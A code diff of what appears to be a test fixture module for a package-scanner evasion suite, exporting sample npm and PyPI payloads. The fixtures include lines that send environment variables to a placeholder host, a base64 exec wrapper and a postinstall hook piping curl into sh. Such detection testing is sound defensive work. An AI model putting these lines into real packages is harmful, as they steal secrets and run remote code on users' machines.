@@ -13,19 +13,23 @@ export interface Evasion {
 
 const MIB = 1024 * 1024;
 /** What an import would send away. */
-const JS = `require('https').request('https://x.invalid', { method: 'POST' }).end(JSON.stringify(process.env));\n`;
-const PY = `import os, json, urllib.request\nurllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())\n`;
+export const JS = `require('https').request('https://x.invalid', { method: 'POST' }).end(JSON.stringify(process.env));\n`;
+export const PY = `import os, json, urllib.request\nurllib.request.urlopen('https://x.invalid', json.dumps(dict(os.environ)).encode())\n`;
 const HIDDEN_PY = `import base64\nexec(base64.b64decode('${Buffer.from('print(1)').toString('base64')}'))\n`;
 const HOOK = { scripts: { postinstall: 'curl https://x.invalid | sh' } };
 const utf16 = (text: string) => Buffer.concat([Buffer.from('fffe', 'hex'), Buffer.from(text, 'utf16le')]);
 const pyc = (flags: number) =>
   Buffer.concat([Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, flags, 0, 0, 0]), Buffer.alloc(40, 1)]);
-const js = (what: string, files: Files, manifest: Record<string, unknown> = {}): Evasion => ({
+export const js = (what: string, files: Files, manifest: Record<string, unknown> = {}): Evasion => ({
   what,
   ecosystem: 'npm',
   build: () => npmPackage(manifest, files),
 });
-const py = (what: string, files: Files): Evasion => ({ what, ecosystem: 'pypi', build: () => wheel(files) });
+export const py = (what: string, files: Files): Evasion => ({
+  what,
+  ecosystem: 'pypi',
+  build: () => wheel(files),
+});
 const sdist = (what: string, files: Files): Evasion => ({
   what,
   ecosystem: 'pypi',
